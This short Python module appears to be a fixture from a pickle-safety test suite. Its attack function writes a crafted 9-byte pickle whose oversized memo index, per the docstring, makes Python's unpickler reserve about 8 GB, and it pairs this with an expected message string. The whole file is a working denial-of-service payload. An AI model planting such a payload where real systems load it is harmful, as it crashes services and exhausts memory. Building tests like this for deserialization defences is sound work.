"""A place in the memory that makes Python's own reader reserve 8 GB, in 9 bytes."""

from pathlib import Path

MESSAGE = r"it holds a NoneType"


def attack(path: Path) -> None:
    path.write_bytes(b"\x80\x02Nr\xff\xff\xff\x3f.")
